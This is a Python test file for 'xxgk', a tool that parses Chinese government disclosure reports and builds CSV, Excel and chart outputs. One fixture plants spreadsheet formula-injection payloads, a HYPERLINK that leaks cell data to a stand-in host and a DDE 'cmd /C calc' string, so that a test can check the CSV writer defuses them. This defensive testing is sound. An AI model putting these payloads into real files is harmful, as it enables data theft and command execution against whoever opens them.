"""The ``xxgk`` command line, run in-process through ``main``."""
from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from toolkit.cli import main
from toolkit.corpus import METADATA_COLUMNS

CORPUS = Path(__file__).parents[1] / "corpus"
SEED_002 = CORPUS / "reports" / "002_0a737c20a99ed187.txt"


def _hashes(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def test_parse_seed_to_json(capsys):
    assert main(["parse", str(SEED_002)]) == 0
    data = json.loads(capsys.readouterr().out)
    for key in ("report_id", "agency", "year", "template", "sections", "tables", "checks",
                "warnings"):
        assert key in data
    assert data["report_id"] == "002_0a737c20a99ed187"
    assert data["tables"].get("t3") is None
    assert set(data["sections"]) == {"1", "2", "3", "4", "5", "6"}
    tvt = [c for c in data["checks"] if c["check"] == "text_vs_table.new_received"]
    assert tvt and tvt[0]["passed"] is None


def test_parse_text_format(capsys):
    assert main(["parse", str(SEED_002), "--format", "text"]) == 0
    assert "report_id: 002_0a737c20a99ed187" in capsys.readouterr().out


def test_parse_missing_file_exits_1_with_one_line(tmp_path, capsys):
    missing = tmp_path / "no_such_report.txt"
    assert main(["parse", str(missing)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert err.startswith("xxgk: ") and str(missing) in err


@pytest.mark.parametrize("argv", [[], ["frobnicate"], ["parse"], ["parse", "x", "--format", "xml"],
                                  ["build", "--bogus"]])
def test_usage_errors_exit_2(argv, capsys):
    assert main(argv) == 2
    assert "usage" in capsys.readouterr().err


def test_build_shipped_corpus(tmp_path, capsys):
    before = _hashes(CORPUS)
    out = tmp_path / "out"
    assert main(["build", "--corpus", str(CORPUS), "--out", str(out)]) == 0
    assert _hashes(CORPUS) == before
    for name in ("reports", "tables", "audit", "parse_log"):
        assert (out / f"{name}.csv").read_bytes().startswith(b"\xef\xbb\xbf")
        assert len(pd.read_parquet(out / f"{name}.parquet").columns) >= 4
    book = openpyxl.load_workbook(out / "xxgk.xlsx", read_only=True)
    assert book.sheetnames == ["reports", "t2", "t3", "t4", "audit", "parse_log", "statements", "indicators"]
    # The indicators sheet holds tk.indicators(): its first row of data, cell by cell.
    import toolkit as tk

    first = tk.indicators(CORPUS).astype(object).iloc[0].tolist()
    header, row = list(book["indicators"].iter_rows(min_row=1, max_row=2, values_only=True))
    assert list(header) == list(tk.indicators(CORPUS).columns)
    assert [None if v is pd.NA else v for v in first] == list(row)
    assert book["indicators"].max_row == len(tk.indicators(CORPUS)) + 1
    reports = pd.read_csv(out / "reports.csv", encoding="utf-8-sig", dtype=str)
    listed = pd.read_csv(CORPUS / "metadata.csv", dtype=str)
    assert len(reports) == len(listed) and set(reports["status"]) <= {"ok", "warnings"}
    tables = pd.read_parquet(out / "tables.parquet")
    absent = tables[tables["report_id"] == "002_0a737c20a99ed187"]  # its tables were images
    assert len(absent) > 0 and set(absent["status"]) == {"table_absent"} and absent["value"].isna().all()
    assert f"{len(listed)} reports" in capsys.readouterr().out


def test_build_refuses_to_write_into_corpus(tmp_path):
    corpus = tmp_path / "corpus"
    shutil.copytree(CORPUS, corpus)
    before = _hashes(corpus)
    assert main(["build", "--corpus", str(corpus), "--out", str(corpus / "build")]) == 2
    assert _hashes(corpus) == before


def test_build_unreadable_corpus_exits_1(tmp_path, capsys):
    assert main(["build", "--corpus", str(tmp_path / "nowhere"), "--out", str(tmp_path / "o")]) == 1
    assert "nowhere" in capsys.readouterr().err


def test_build_skips_bad_files_and_names_them(tmp_path, capsys):
    corpus = tmp_path / "corpus"
    shutil.copytree(CORPUS, corpus)
    (corpus / "reports" / "empty.txt").write_bytes(b"")
    (corpus / "reports" / "binary.txt").write_bytes(b"\x00\x01\x02PK\x03\x04" * 50)
    meta = pd.read_csv(corpus / "metadata.csv", dtype=str, keep_default_na=False)
    extra = pd.DataFrame([{c: "" for c in METADATA_COLUMNS} | {"report_id": rid, "file": f"reports/{rid}.txt"}
                          for rid in ("empty", "binary")])
    pd.concat([meta, extra]).to_csv(corpus / "metadata.csv", index=False)
    out = tmp_path / "out"
    assert main(["build", "--corpus", str(corpus), "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "empty.txt" in printed and "binary.txt" in printed
    reports = pd.read_parquet(out / "reports.parquet").set_index("report_id")
    assert reports.loc["empty", "status"] == "error"
    assert reports.loc["binary", "status"] == "error"
    assert (reports.drop(["empty", "binary"])["status"] != "error").all()
    log = pd.read_parquet(out / "parse_log.parquet")
    assert set(log.loc[log["level"] == "error", "report_id"]) == {"empty", "binary"}


def test_audit_command(capsys):
    assert main(["audit", "--corpus", str(CORPUS)]) == 0
    out = capsys.readouterr().out
    assert "text_vs_table.new_received" in out
    assert main(["audit", "--corpus", str(CORPUS), "--all"]) == 0
    assert "t3.balance.total" in capsys.readouterr().out


def test_cache_is_keyed_by_content(tmp_path, monkeypatch):
    import shutil

    from toolkit.data import loaders

    corpus = tmp_path / "corpus"
    shutil.copytree(Path(__file__).resolve().parents[1] / "corpus", corpus)
    first = loaders.parse_corpus(corpus)
    loaders.corpus_handle(corpus).clear()
    calls = []
    real = loaders.parse_path
    monkeypatch.setattr(loaders, "parse_path", lambda p: calls.append(p) or real(p))
    again = loaders.parse_corpus(corpus)
    assert calls == []  # nothing re-parsed
    assert [p.report.tables if p.report else p.error for p in again] == \
        [p.report.tables if p.report else p.error for p in first]
    target = corpus / "reports" / "001_0d529075b8579b4b.txt"
    target.write_text(target.read_text(encoding="utf-8").replace("行政许可 |\n71", "行政许可 |\n72"),
                      encoding="utf-8")
    loaders.corpus_handle(corpus).clear()
    changed = loaders.parse_corpus(corpus)
    assert [Path(c).name for c in calls] == ["001_0d529075b8579b4b.txt"]
    report = next(p.report for p in changed if p.report_id == "001_0d529075b8579b4b")
    assert report.tables["t2"]["licensing"] == {"decisions": 72}


def test_chart_command_and_build_charts(tmp_path, capsys):
    # A folder that is not there is a mistyped path: refused in one line, no folder made.
    assert main(["chart", "outcomes", "--out", str(tmp_path / "c" / "outcomes")]) == 2
    err = capsys.readouterr().err.splitlines()
    assert err == [f"xxgk: {tmp_path / 'c'}: no such folder for --out (create it first)"]
    assert not (tmp_path / "c").exists()
    (tmp_path / "c").mkdir()
    assert main(["chart", "outcomes", "--out", str(tmp_path / "c" / "outcomes")]) == 0
    assert (tmp_path / "c" / "outcomes.png").stat().st_size > 10_000
    assert (tmp_path / "c" / "outcomes.svg").is_file()
    assert main(["chart", "no_such_chart", "--out", str(tmp_path / "x")]) == 2
    assert "unknown chart" in capsys.readouterr().err
    assert main(["chart", "no_such_chart"]) == 2  # the name is what is wrong, not the missing --out
    assert "unknown chart" in capsys.readouterr().err
    assert main(["chart", "outcomes"]) == 2
    assert "--out" in capsys.readouterr().err
    assert main(["build", "--out", str(tmp_path / "b"), "--jobs", "1"]) == 0
    assert sorted(p.name for p in (tmp_path / "b" / "charts").glob("*.png")) == sorted(
        f"{n}.png" for n in ("applications_and_refusals_by_organ", "applications_and_refusals_by_year",
                             "rates_by_organ", "rates_by_year", "applications_by_applicant", "outcomes",
                             "proactive_disclosure_by_organ", "proactive_disclosure_by_year",
                             "appeals", "audit_summary"))


def test_build_skips_excel_when_a_sheet_is_too_big(tmp_path, capsys, monkeypatch, seed_corpus):
    import toolkit.data.workbook

    monkeypatch.setattr(toolkit.data.workbook, "EXCEL_MAX_ROWS", 100)  # t3 of the seeds has 5 × 175 rows (002's absent table listed)
    assert main(["build", "--corpus", str(seed_corpus), "--out", str(tmp_path / "o")]) == 0
    out = capsys.readouterr().out
    from toolkit.checks import CHECK_ORDER
    from toolkit.data import audit

    # 5 reports, each with every check of the audit, and one per kind of statement its text makes
    n = len(audit(seed_corpus))
    assert n > 5 * len(CHECK_ORDER)
    assert f"xxgk.xlsx not written: sheet t3 has 875 rows, sheet audit has {n} rows" in out
    assert not (tmp_path / "o" / "xxgk.xlsx").exists()
    assert (tmp_path / "o" / "tables.csv").is_file()
    assert main(["build", "--corpus", str(seed_corpus), "--out", str(tmp_path / "p"), "--no-excel"]) == 0
    assert "--no-excel" in capsys.readouterr().out and not (tmp_path / "p" / "xxgk.xlsx").exists()


def _display_width(line: str) -> int:
    import unicodedata

    return sum(2 if unicodedata.east_asian_width(ch) in "WF" else 1 for ch in line)


def test_audit_output_fits_100_columns(capsys):
    for argv in (["audit"], ["audit", "--all"], ["audit", "--failed"]):
        assert main([*argv, "--corpus", str(CORPUS)]) == 0
        lines = capsys.readouterr().out.splitlines()
        assert lines and max(_display_width(line) for line in lines) <= 100, argv


def test_audit_failed_lists_failed_checks_only(capsys, seed_corpus):
    from toolkit.data import audit

    assert main(["audit", "--corpus", str(seed_corpus), "--failed"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split() == ["check", "expected", "actual"]
    # Grouped by report: a line naming the report, its organ and year, then its failed checks.
    rows, report = [], None
    for line in lines[2:-1]:
        if line.startswith("  "):
            rows.append([report, *line.split()])
        else:
            report = line.split()[0]
    findings = audit(seed_corpus)
    failed = findings[findings["passed"].eq(False).fillna(False)]
    assert [(r[0], r[1]) for r in rows] == list(zip(failed["report_id"], failed["check"]))
    # 002 published its tables as images: its missing tables are failed checks.
    assert ["002_0a737c20a99ed187", "table_present.t3", "-", "-"] in rows
    # metadata.csv: 002 is 威海市文登区民政局's 2023 report.
    assert any(line.startswith("002_0a737c20a99ed187  威海市文登区民政局 2023年 (") for line in lines)
    assert lines[-1] == f"{len(failed)} failed checks in {failed['report_id'].nunique()} reports"
    assert "n/a" not in "\n".join(lines)  # uncheckable findings are not failed ones


def test_indicators_command_writes_csv_with_bom(tmp_path, capsys, seed_corpus):
    out = tmp_path / "ind.csv"
    assert main(["indicators", "--corpus", str(seed_corpus), "--out", str(out)]) == 0
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    frame = pd.read_csv(out, encoding="utf-8-sig", dtype={"report_id": str})
    assert list(frame.columns) == ["report_id", "organ_id", "agency", "year", "template", "indicator",
                                   "numerator", "denominator", "value", "ci_low", "ci_high", "source", "conflict", "reason"]
    row = frame[(frame["report_id"] == "003_03a04d677c33f02f") & (frame["indicator"] == "disclosure_rate")].iloc[0]
    assert (row["numerator"], row["denominator"], row["value"]) == (1, 1, 1)  # 吴忠市: 1 of 1 granted
    absent = frame[(frame["report_id"] == "002_0a737c20a99ed187") & (frame["indicator"] == "disclosure_rate")].iloc[0]
    assert pd.isna(absent["value"]) and "table 3 absent" in absent["reason"]  # empty, never 0
    stated = frame[(frame["report_id"] == "002_0a737c20a99ed187") & (frame["indicator"] == "applications")].iloc[0]
    assert (stated["value"], stated["source"]) == (1, "stated")  # 2023年收到1件信息公开申请 (its text)
    assert "ind.csv" in capsys.readouterr().out
    for by, key in (("year", "year"), ("organ", "organ_id")):
        assert main(["indicators", "--corpus", str(seed_corpus), "--by", by, "--out", str(out)]) == 0
        summary = pd.read_csv(out, encoding="utf-8-sig")
        assert summary.columns[0] == key and "n_missing" in summary.columns
    assert main(["indicators", "--by", "region", "--out", str(out)]) == 2
    # By province, on the corpus named (not the shipped one): 吴忠市 (宁夏) granted 1 of its 1.
    assert main(["indicators", "--corpus", str(seed_corpus), "--by", "province", "--out", str(out)]) == 0
    summary = pd.read_csv(out, encoding="utf-8-sig")
    assert summary.columns[0] == "province"
    assert set(summary["province"]) == {"黑龙江省", "重庆市", "山东省", "宁夏回族自治区", "河南省"}
    ningxia = summary[(summary["province"] == "宁夏回族自治区") & (summary["indicator"] == "disclosure_rate")]
    assert ningxia[["numerator", "denominator", "n_reports"]].values.tolist() == [[1, 1, 1]]


def test_chart_by_organ_or_year(tmp_path, capsys, seed_corpus):
    for by in ("organ", "year"):
        stem = tmp_path / f"apps_{by}"
        assert main(["chart", "applications_and_refusals", "--by", by, "--corpus", str(seed_corpus),
                     "--out", str(stem)]) == 0
        assert stem.with_suffix(".png").stat().st_size > 10_000
    assert main(["chart", "outcomes", "--by", "year", "--out", str(tmp_path / "x")]) == 2
    assert "has no --by" in capsys.readouterr().err


def test_audit_notes_fit_100_columns_too(tmp_path, capsys, seed_corpus):
    import csv

    corpus = tmp_path / "corpus"
    shutil.copytree(seed_corpus, corpus)
    # A second copy of one report under another id: the audit notes the same agency and year.
    with open(corpus / "metadata.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    twin = dict(rows[0], report_id="zz_twin_of_000_with_a_long_identifier", file="reports/zz_twin.txt")
    shutil.copyfile(corpus / rows[0]["file"], corpus / twin["file"])
    with open(corpus / "metadata.csv", "a", encoding="utf-8", newline="") as fh:
        csv.DictWriter(fh, fieldnames=list(rows[0]), lineterminator="\n").writerow(twin)
    assert main(["audit", "--corpus", str(corpus)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("note: ") and "same agency" in "\n".join(lines[:4])
    assert max(_display_width(line) for line in lines) <= 100


def test_init_starts_a_corpus_that_add_and_build_accept(tmp_path, capsys):
    corpus = tmp_path / "new"
    assert main(["init", str(corpus)]) == 0
    assert (corpus / "metadata.csv").read_text(encoding="utf-8").startswith("report_id,agency,")
    html = Path(__file__).resolve().parent / "fixtures" / "003.html"
    assert main(["add", str(html), "--corpus", str(corpus)]) == 0
    assert main(["build", "--corpus", str(corpus), "--out", str(tmp_path / "out"), "--jobs", "1",
                 "--no-charts"]) == 0
    assert "1 reports listed" in capsys.readouterr().out
    assert main(["init", str(corpus)]) == 1  # not an empty folder any more: refused, nothing changed
    assert "not a new or empty folder" in capsys.readouterr().err


def test_build_after_the_loaders_filled_the_data_home(tmp_path, capsys, seed_corpus, monkeypatch):
    """The loaders keep their parse cache in the corpus's data-home folder; the build that
    writes there afterwards must take it as its own folder (it once refused it as foreign)."""
    import toolkit as tk

    monkeypatch.setenv("XXGK_HOME", str(tmp_path / "home"))
    assert len(tk.load_reports(seed_corpus)) == 5
    assert main(["build", "--corpus", str(seed_corpus), "--jobs", "1", "--no-charts"]) == 0
    assert "written to" in capsys.readouterr().out


def test_version(capsys):
    assert main(["--version"]) == 0
    assert capsys.readouterr().out.startswith("xxgk ")


def test_audit_filters_by_report_and_organ(capsys):
    from toolkit.data import audit, load_reports

    assert main(["audit", "--corpus", str(CORPUS), "--all", "--report", "000_390bec4f8b72bc77"]) == 0
    out = capsys.readouterr().out.splitlines()
    heads = [line for line in out[2:-1] if not line.startswith(" ")]
    assert heads[0].startswith("000_390bec4f8b72bc77  鸡东县民政局 2023年 (") and len(heads) == 1
    findings = audit(CORPUS)
    assert out[-1].endswith("findings in 1 reports")
    n = int((findings["report_id"] == "000_390bec4f8b72bc77").sum())
    assert len([line for line in out if line.startswith("  ") and not line.startswith("      ")]) == n + 1
    assert main(["audit", "--corpus", str(CORPUS), "--failed", "--organ", "河北省教育厅"]) == 0
    out = capsys.readouterr().out.splitlines()
    reports = load_reports(CORPUS)
    mine = set(reports.loc[reports["agency"] == "河北省教育厅", "report_id"])
    heads = [line.split()[0] for line in out[2:-1] if not line.startswith(" ")]
    assert heads and set(heads) <= mine and all("河北省教育厅" in line for line in out[2:-1]
                                                if not line.startswith(" "))
    assert main(["audit", "--corpus", str(CORPUS), "--organ", "河北省"]) == 2
    assert "matches 4 organs" in capsys.readouterr().err
    assert main(["audit", "--corpus", str(CORPUS), "--report", "no_such_report"]) == 2
    assert capsys.readouterr().err.count("\n") == 1


def test_indicators_csv_follows_the_build_csv_rule(tmp_path, seed_corpus):
    from toolkit.data.tabular import csv_bytes
    import toolkit as tk

    out = tmp_path / "ind.csv"
    assert main(["indicators", "--corpus", str(seed_corpus), "--out", str(out)]) == 0
    data = out.read_bytes()
    assert data == csv_bytes(tk.indicators(seed_corpus))  # the build's writer, not a second one
    lines = data[3:].decode("utf-8").splitlines()
    assert lines[0].startswith('"report_id","organ_id","agency","year",')
    # Text quoted, the year a bare number, like the build's reports.csv.
    assert lines[1].startswith('"000_390bec4f8b72bc77","230321:鸡东县民政局","鸡东县民政局",2023,"2021",')
# ------------------------------------------------------------------ outputs never inside the corpus


def test_every_writing_command_refuses_an_output_inside_the_corpus(tmp_path, capsys, seed_corpus):
    corpus = tmp_path / "corpus"
    shutil.copytree(seed_corpus, corpus)
    (tmp_path / "link").symlink_to(corpus / "reports")  # a path that only resolves into the corpus
    before = _hashes(corpus)
    cases = [
        ["indicators", "--out", str(corpus / "metadata.csv")],
        ["indicators", "--by", "organ", "--out", str(tmp_path / "link" / "x.csv")],
        ["chart", "outcomes", "--out", str(corpus / "reports" / "X")],
        ["chart", "rates", "--out", str(corpus / "chart.png")],
        ["build", "--out", str(corpus / "reports")],
        ["build", "--out", str(corpus)],
    ]
    for argv in cases:
        assert main([*argv, "--corpus", str(corpus)]) == 2, argv
        err = capsys.readouterr().err.splitlines()
        assert len(err) == 1 and err[0].startswith("xxgk: ") and "refusing to write into the corpus folder" in err[0]
    assert _hashes(corpus) == before
    assert not list(tmp_path.glob("*.png"))
    # Beside the corpus is not in it: a chart named after the corpus folder is written next to it.
    assert main(["chart", "outcomes", "--corpus", str(corpus), "--out", str(corpus)]) == 0
    assert (tmp_path / "corpus.png").is_file() and _hashes(corpus) == before


# ------------------------------------------------------------------ an empty corpus


def test_indicators_of_an_empty_corpus_are_header_only_csvs(tmp_path, capsys):
    from toolkit import indicators, summarise_indicators

    corpus = tmp_path / "new"
    assert main(["init", str(corpus)]) == 0
    expected = {
        None: ["report_id", "organ_id", "agency", "year", "template", "indicator", "numerator", "denominator",
               "value", "ci_low", "ci_high", "source", "conflict", "reason"],
        "organ": ["organ_id", "agency", "indicator", "template", "value", "numerator", "denominator", "ci_low",
                  "ci_high", "n_reports", "n_missing", "n_stated", "n_conflict"],
        "year": ["year", "indicator", "template", "value", "numerator", "denominator", "ci_low", "ci_high",
                 "n_reports", "n_missing", "n_stated", "n_conflict"],
    }
    for by, columns in expected.items():
        out = tmp_path / f"{by}.csv"
        assert main(["indicators", "--corpus", str(corpus), "--out", str(out), *(["--by", by] if by else [])]) == 0
        captured = capsys.readouterr()
        assert captured.err == "" and "0 rows" in captured.out
        assert out.read_bytes() == b"\xef\xbb\xbf" + (",".join(f'"{c}"' for c in columns) + "\n").encode()
    frame = indicators(corpus)
    for by in ("organ", "year", None):
        summary = summarise_indicators(frame, by)
        columns = expected[by] if by else expected["year"][1:]  # over everything: no key column
        assert summary.empty and list(summary.columns) == columns
        assert str(summary["value"].dtype) == "Float64" and str(summary["n_reports"].dtype) == "Int64"


# ------------------------------------------------------------------ CSV cells a spreadsheet would run


def _hostile_corpus(tmp_path: Path, seed_corpus: Path) -> Path:
    corpus = tmp_path / "corpus"
    shutil.copytree(seed_corpus, corpus)
    meta = pd.read_csv(corpus / "metadata.csv", dtype=str, keep_default_na=False)
    meta.loc[meta["report_id"] == "003_03a04d677c33f02f", "agency"] = '=HYPERLINK("http://x.example/?"&A1,"吴忠")'
    meta.loc[meta["report_id"] == "003_03a04d677c33f02f", "title"] = "-2+3+cmd|' /C calc'!A0"
    meta.loc[meta["report_id"] == "004_90c37852d1e90522", "sector"] = "@SUM(1+1)"
    meta.loc[meta["report_id"] == "001_0d529075b8579b4b", "title"] = "\tTAB"  # titles keep their spaces
    meta.to_csv(corpus / "metadata.csv", index=False, lineterminator="\n")
    return corpus


def test_csv_outputs_defuse_formula_cells_and_keep_numbers(tmp_path, seed_corpus):
    import csv

    corpus = _hostile_corpus(tmp_path, seed_corpus)
    out = tmp_path / "out"
    assert main(["build", "--corpus", str(corpus), "--out", str(out), "--jobs", "1", "--no-charts"]) == 0
    with open(out / "reports.csv", encoding="utf-8-sig", newline="") as fh:
        rows = {r["report_id"]: r for r in csv.DictReader(fh)}
    assert rows["003_03a04d677c33f02f"]["agency"] == '\'=HYPERLINK("http://x.example/?"&A1,"吴忠")'
    assert rows["003_03a04d677c33f02f"]["title"] == "'-2+3+cmd|' /C calc'!A0"
    assert rows["004_90c37852d1e90522"]["sector"] == "'@SUM(1+1)"
    assert rows["001_0d529075b8579b4b"]["title"] == "'\tTAB"
    # Numbers are numbers: the year column is unquoted digits.
    assert rows["003_03a04d677c33f02f"]["year"] == "2023"
    # Parquet (and so the API) keeps the raw text.
    reports = pd.read_parquet(out / "reports.parquet").set_index("report_id")
    assert reports.loc["003_03a04d677c33f02f", "agency"] == '=HYPERLINK("http://x.example/?"&A1,"吴忠")'
    # No text cell of any CSV the build wrote starts with a formula character.
    for name in ("reports", "tables", "audit", "parse_log", "statements"):
        with open(out / f"{name}.csv", encoding="utf-8-sig", newline="") as fh:
            reader = csv.reader(fh)
            next(reader)
            for row in reader:
                assert not [c for c in row if c[:1] in ("=", "+", "@", "\t", "\r")
                            or (c[:1] == "-" and not _is_number(c))], (name, row)
    # xxgk indicators writes through the same writer.
    ind = tmp_path / "ind.csv"
    assert main(["indicators", "--corpus", str(corpus), "--out", str(ind)]) == 0
    with open(ind, encoding="utf-8-sig", newline="") as fh:
        agencies = {r["agency"] for r in csv.DictReader(fh)}
    assert '\'=HYPERLINK("http://x.example/?"&A1,"吴忠")' in agencies
    assert not [a for a in agencies if a.startswith("=")]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_writer_leaves_numbers_and_plain_text_alone():
    import io

    import pyarrow as pa

    from toolkit.data.tabular import CsvSink

    table = pa.table({"n": pa.array([-1.5, 2.0, None], pa.float64()), "k": pa.array([-3, 0, 7], pa.int64()),
                      "t": ["-3", "+1.5", "-"], "u": ["=1+1", "吴忠市", None]})
    buffer = io.BytesIO()
    sink = CsvSink(buffer)
    sink.write(table)
    sink.close()
    assert buffer.getvalue().decode("utf-8-sig").splitlines() == [
        '"n","k","t","u"',
        '-1.5,-3,"-3","\'=1+1"',
        '2,0,"+1.5","吴忠市"',
        ',7,"\'-",',
    ]


def test_audit_gives_a_report_before_the_template_one_line_for_its_checks(capsys):
    # 河北省教育厅 2013 predates the fixed template: no tables, nothing of the template to check.
    assert main(["audit", "--corpus", str(CORPUS), "--report", "2013_188035148e085674"]) == 0
    out = capsys.readouterr().out.splitlines()
    notes = [line for line in out if "checks not applicable" in line]
    assert len(notes) == 1 and "predates the fixed template (2019)" in notes[0]
    assert not any("n/a" in line for line in out)
    assert main(["audit", "--corpus", str(CORPUS), "--all", "--report", "2013_188035148e085674"]) == 0
    out = capsys.readouterr().out
    assert "checks not applicable" not in out and out.count("n/a") > 10
